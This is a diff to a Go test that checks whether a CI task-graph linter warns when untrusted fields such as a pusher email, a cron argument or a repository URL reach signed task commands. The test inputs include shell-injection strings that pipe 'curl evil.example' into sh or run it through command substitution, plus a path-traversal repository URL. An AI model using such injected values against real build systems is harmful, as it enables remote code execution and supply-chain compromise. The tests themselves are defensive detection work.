@@ -40,6 +40,8 @@ func TestInjected(t *testing.T) {
 		want     string // "" for no warning
 	}{
 		{"an owner", testgraph.GitHubPush(), "octo@example.com", "x'; curl evil.example|sh; '", "warn untrusted-input signing:parent /payload/command/5: the command is rendered from event.pusher.email"},
+		{"a repository that git reads otherwise", testgraph.GitHubPush(), "https://github.com/mozilla-mobile/mozilla-vpn-client", "https://github.com/mozilla-mobile/mozilla-vpn-client/tree/v1.2.3/../../../../evil/repo",
+			"warn odd-repository signing:parent /payload/env/MOZILLAVPN_HEAD_REPOSITORY"},
 		{"another owner", testgraph.GitHubPush(), "octo@example.com", "evil@example.com", ""},
 		{"words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "$(curl evil.example)", "warn untrusted-input signing:parent /payload/command/"},
 		{"other words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "--target-tasks-method=other", ""},
